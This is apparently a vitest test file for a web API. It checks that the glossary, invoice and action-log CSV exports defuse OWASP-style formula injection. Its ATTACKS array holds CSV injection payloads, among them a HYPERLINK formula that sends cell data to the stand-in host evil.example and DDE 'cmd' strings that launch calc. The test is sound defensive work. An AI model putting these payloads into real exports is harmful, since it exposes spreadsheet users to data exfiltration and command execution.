/**
 * Every CSV the API writes (a glossary's normalised CSV, the invoices for the accountant, the action
 * log) holds cells a client or a user typed; none may reach a spreadsheet as a formula (OWASP "CSV
 * injection": a leading =, +, -, @, tab or carriage return is prefixed with an apostrophe).
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { eq } from 'drizzle-orm';
import { tasks } from '../src/db/schema/index.ts';
import { call, createTestApp, type TestApp } from './harness.ts';
import { tokensByRole, type RoleName } from './roles.ts';
import { glossaryKit, uploadGlossary } from './glossary-upload.ts';
import { invoiceScenario } from './invoice-fixtures.ts';

const ATTACKS = [
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  "+cmd|' /C calc'!A0",
  '@SUM(1+1)',
  "-2+3+cmd|' /C calc'!A0",
  '\t=1+1',
];
/** How each attack comes back: as text (inputs are trimmed, so the tab goes on the way in). */
const DEFUSED = ATTACKS.map((a) => `'${a.trim()}`);

/** RFC 4180 cells, quotes undone (enough for what the API writes). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  const body = text.replace(/^\uFEFF/, '');
  const endCell = () => {
    row.push(cell);
    cell = '';
  };
  for (let i = 0; i < body.length; i++) {
    const c = body[i]!;
    if (quoted && c === '"' && body[i + 1] === '"') {
      cell += '"';
      i++;
    } else if (c === '"') quoted = !quoted;
    else if (quoted) cell += c;
    else if (c === ',') endCell();
    else if (c === '\r' && body[i + 1] === '\n') {
      endCell();
      rows.push(row);
      row = [];
      i++;
    } else cell += c;
  }
  if (cell || row.length) rows.push([...row, cell]);
  return rows;
}

/** Cells a spreadsheet would run; a plain number (-48.40) is none. */
const formulas = (rows: string[][]) =>
  rows.flat().filter((c) => /^[=+\-@\t\r]/.test(c) && !/^-?\d+(\.\d+)?$/.test(c));

let t: TestApp;
let tokens: Record<RoleName, string>;
beforeAll(async () => {
  t = await createTestApp();
  tokens = await tokensByRole(t.app);
});
afterAll(() => t?.close());

describe('CSV exports never carry a formula', () => {
  it("a client's glossary, downloaded by staff as CSV", async () => {
    const kit = await glossaryKit(t.app, tokens.admin);
    const quote = (s: string) => `"${s.replaceAll('"', '""')}"`;
    const content = `source,target,note\n${ATTACKS.map((a, i) => `${quote(a)},term ${i},${quote(a)}`).join('\n')}\n`;
    const up = await uploadGlossary(t.app, {
      token: tokens.acmeAdmin,
      fields: {
        customer_id: String(kit.acme),
        type: '1',
        source_language: String(kit.lang.en),
        target_language: String(kit.lang.es),
      },
      content,
    });
    expect(up.status, up.raw.body).toBe(201);
    const csv = await call(t.app, 'GET', `/api/glossaries/${up.json.data.id}/download`, {
      token: tokens.admin,
      query: { format: 'csv' },
    });
    expect(csv.status).toBe(200);
    const rows = parseCsv(csv.raw.body);
    expect(rows).toHaveLength(ATTACKS.length + 1);
    expect(formulas(rows)).toEqual([]);
    expect(rows.slice(1).map((r) => r[0])).toEqual(DEFUSED);
    expect(rows.slice(1).map((r) => r[2])).toEqual(DEFUSED);
  });

  it('the invoices export, with amounts that stay numbers', async () => {
    const s = await invoiceScenario(t, tokens);
    for (const [i, attack] of ATTACKS.entries()) {
      const task = await s.makeTask(s.acme, 'APPROVED', '100.00');
      // the client types its PO number and reference on the order form
      await t.database.db
        .update(tasks)
        .set({ po_number: attack.trim().slice(0, 50), client_reference: attack.trim() })
        .where(eq(tasks.id, task.id));
      const body = { ...(await s.body(s.acme, [task.id], '121.00')), enterprise: attack, tin: `${i}` };
      const issued = await s.issue(body);
      expect(issued.status, issued.raw.body).toBe(201);
    }
    const csv = await call(t.app, 'GET', '/api/invoices/export', { token: tokens.admin });
    expect(csv.status).toBe(200);
    const rows = parseCsv(csv.raw.body);
    expect(rows).toHaveLength(ATTACKS.length + 1);
    expect(formulas(rows)).toEqual([]);
    const enterprise = rows[0]!.indexOf('enterprise');
    expect(
      rows
        .slice(1)
        .map((r) => r[enterprise])
        .sort(),
    ).toEqual([...DEFUSED].sort());
    for (const column of ['po_numbers', 'client_references'])
      expect(
        rows
          .slice(1)
          .map((r) => r[rows[0]!.indexOf(column)])
          .sort(),
        column,
      ).toEqual([...DEFUSED].sort());
    expect(rows.slice(1).every((r) => r[rows[0]!.indexOf('amount')] === '121.00')).toBe(true);
  });

  it('the action log export', async () => {
    const country = (await call(t.app, 'GET', '/api/countries', { token: tokens.admin })).json.data[0].id;
    for (const attack of ATTACKS) {
      const res = await call(t.app, 'POST', '/api/customers/store', {
        token: tokens.admin,
        body: { name: attack, country_id: country },
      });
      expect(res.status, res.raw.body).toBe(201);
    }
    const csv = await call(t.app, 'GET', '/api/action-logs/export', { token: tokens.admin });
    expect(csv.status).toBe(200);
    const rows = parseCsv(csv.raw.body);
    expect(formulas(rows)).toEqual([]);
    const customer = rows[0]!.length - 2;
    const names = rows.slice(1).map((r) => r[customer]);
    for (const defused of DEFUSED) expect(names).toContain(defused);
  });
});
